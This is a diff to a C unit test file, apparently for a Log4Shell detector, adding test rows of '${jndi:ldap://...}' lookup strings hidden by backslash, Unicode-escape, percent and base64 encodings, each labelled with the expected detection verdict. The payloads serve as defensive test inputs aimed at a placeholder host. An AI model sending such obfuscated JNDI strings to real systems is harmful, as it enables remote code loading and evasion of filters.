@@ -60,6 +60,15 @@ static void backslash(void **state)
         ROW("{\\\"a\\\":\\\"\\\\u0024\\\\u007bjndi:ldap://h.example/a\\\\u007d\\\"}", EXPLOIT, .chain = "backslash backslash"),
         ROW("{\"a\":\"{\\\"b\\\":\\\"${jndi:ldap://h.example/a}\\\"}\"}", EXPLOIT, .chain = ""),
         ROW("\\x5Cu0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash backslash"),
+        ROW("\\U00000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
+        ROW("\\U00000024\\U0000007bjndi:ldap://h.example/a\\U0000007d", EXPLOIT, .chain = "backslash"),
+        ROW("%5CU00000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
+        ROW("%5CU%300000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
+        ROW("\\U01000024{jndi:ldap://h.example/a}", "none"), /* no code point */
+        ROW("$\\{jndi:ldap://h.example/a\\}", "attempt"),
+        ROW("\\$\\{jndi:ldap://h.example/a\\}", "attempt"),
+        ROW("%5C%24%5C%7Bjndi:ldap://h.example/a%5C%7D", "attempt", .chain = "percent"),
+        ROW("`$\\{user.name}`", "none"),
     };
     (void)state;
     RUN(rows);
@@ -102,6 +111,14 @@ static void base64(void **state)
         ROW("{\"d\":\"" PLAIN_BASE64 "\"}", EXPLOIT, .chain = "base64"),
         ROW("{\\\"d\\\":\\\"" PLAIN_BASE64 "\\\"}", EXPLOIT, .chain = "backslash base64"),
         ROW("(" PLAIN_BASE64 ")", EXPLOIT, .chain = "base64"),
+        ROW("x-" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW("user_" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW("/a/some-user_" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0-x", EXPLOIT, .chain = "base64"),
+        ROW("a_JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5-fmJ9", "exploit", .chain = "base64"), /* holds a '-' */
+        ROW("a_JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5%2DfmJ9", "exploit", .chain = "percent base64"),
+        ROW("/a/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5%2BfmJ9", "exploit", .chain = "percent base64"),
+        ROW("/a/JHtqbmRp%4fmxkYXA6Ly9oLmV4YW1wbGUvYX0", EXPLOIT, .chain = "percent base64"),
         ROW("<a>" PLAIN_BASE64 "</a>", EXPLOIT, .chain = "base64"),
         ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
